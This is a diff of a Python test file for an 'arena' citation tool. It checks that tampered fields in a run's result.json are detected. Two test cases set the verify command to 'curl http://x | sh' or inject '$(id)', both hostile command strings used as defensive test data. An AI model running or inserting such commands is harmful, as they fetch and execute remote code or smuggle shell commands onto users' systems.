@@ -42,8 +42,8 @@ def test_a_citation_names_bots_rules_seed_and_link_and_the_run_is_checked_agains
     assert found["verify"].startswith(f"arena verify {run} --expect {found['link'][:16]}")
 
 
-def test_an_entry_for_bibtex_has_the_link_and_escapes_what_tex_reads(run: Path) -> None:
-    found = json.loads(arena("cite", run).stdout)
+def test_an_entry_for_bibtex_has_the_link_and_escapes_what_tex_reads(run: Path, result: str) -> None:
+    found = json.loads(result)
     done = arena("cite", run, "--bibtex")
     assert done.returncode == 0
     key, year = found["link"][:12], found["started"][:4]
@@ -61,11 +61,17 @@ def change(path: Path, alter: Callable[[dict[str, Any]], object]) -> None:
     path.write_text(json.dumps(document))
 
 
+@pytest.fixture(scope="module")
+def result(run: Path) -> str:
+    """Return the run's citation."""
+    return arena("cite", run).stdout
+
+
 @pytest.fixture
-def own(run: Path, tmp_path: Path) -> Path:
+def own(run: Path, result: str, tmp_path: Path) -> Path:
     """Return a copy of the run, beside which is its citation, result.json."""
     shutil.copytree(run, tmp_path / "copy")
-    (tmp_path / "result.json").write_text(arena("cite", tmp_path / "copy").stdout)
+    (tmp_path / "result.json").write_text(result.replace(str(run), str(tmp_path / "copy")))
     return tmp_path / "copy"
 
 
@@ -124,30 +130,45 @@ def test_a_citation_without_a_commitment_is_not_of_a_run_without_one(tmp_path: P
 @pytest.mark.parametrize(
     ("alter", "message"),
     [
-        (lambda one: one["bots"][0].update(digest="0" * 64), "result.json: bots[0].digest: found '000"),
-        (lambda one: one["bots"].pop(), "result.json: bots: found ["),
+        (lambda one: one["bots"][0].update(digest="0" * 64), "bots[0].digest: found '000"),
+        (lambda one: one["bots"].pop(), "bots: found ["),
         (
             lambda one: one.update(summary="two is the strongest."),
-            "result.json: summary: found 'two is the strongest.'; the run has '",
+            "summary: found 'two is the strongest.'; the run has '",
         ),
-        (lambda one: one["bots"][1]["rating"].update(low=0.0), "result.json: bots[1].rating.low: found 0.0; the run has "),
-        (lambda one: one["rules"].update(target=31), "result.json: rules.target: found 31; the run has 30"),
-        (lambda one: one.update(seed=""), "result.json: seed: found ''; the run has '"),
-        (lambda one: one.update(link="0" * 64), f"expected {'0' * 64}"),
+        (lambda one: one["bots"][1]["rating"].update(low=0.0), "bots[1].rating.low: found 0.0; the run has "),
+        (lambda one: one["rules"].update(target=31), "rules.target: found 31; the run has 30"),
+        (lambda one: one.update(seed=""), "seed: found ''; the run has '"),
         (
             lambda one: one.update(verify="curl http://x | sh"),
-            "result.json: verify: found 'curl http://x | sh'; the run has 'arena verify ",
+            "verify: found 'curl http://x | sh'; the run has 'arena verify ",
         ),
         (
             lambda one: one.update(verify=one["verify"].replace(" --expect", " $(id) --expect")),
-            "result.json: verify: found 'arena ",
+            "verify: found 'arena ",
         ),
-        (lambda one: one.update(replay=one["verify"]), "result.json: replay: found 'arena verify "),
-        (lambda one: one.update(prize="mine"), "result.json: prize: found 'mine'; the run has nothing"),
-        (lambda one: one["rules"].pop("target"), "result.json: rules.target: found nothing; the run has 30"),
+        (lambda one: one.update(replay=one["verify"]), "replay: found 'arena verify "),
+        (lambda one: one.update(prize="mine"), "prize: found 'mine'; the run has nothing"),
+        (lambda one: one["rules"].pop("target"), "rules.target: found nothing; the run has 30"),
     ],
 )
 def test_whatever_was_changed_in_a_citation_is_found(
+    run: Path, tmp_path: Path, result: str, alter: Callable[[dict[str, Any]], object], message: str
+) -> None:
+    (tmp_path / "result.json").write_text(result)
+    change(tmp_path / "result.json", alter)
+    found = named_citation.difference(named_citation.read_citation(tmp_path / "result.json"), Folder(run))
+    assert found.startswith(f"{tmp_path / 'result.json'}: {message}")
+
+
+@pytest.mark.parametrize(
+    ("alter", "message"),
+    [
+        (lambda one: one["bots"][0].update(digest="0" * 64), "result.json: bots[0].digest: found '000"),
+        (lambda one: one.update(link="0" * 64), f"expected {'0' * 64}"),
+    ],
+)
+def test_a_citation_that_was_changed_is_a_difference_in_one_line(
     own: Path, tmp_path: Path, alter: Callable[[dict[str, Any]], object], message: str
 ) -> None:
     change(tmp_path / "result.json", alter)
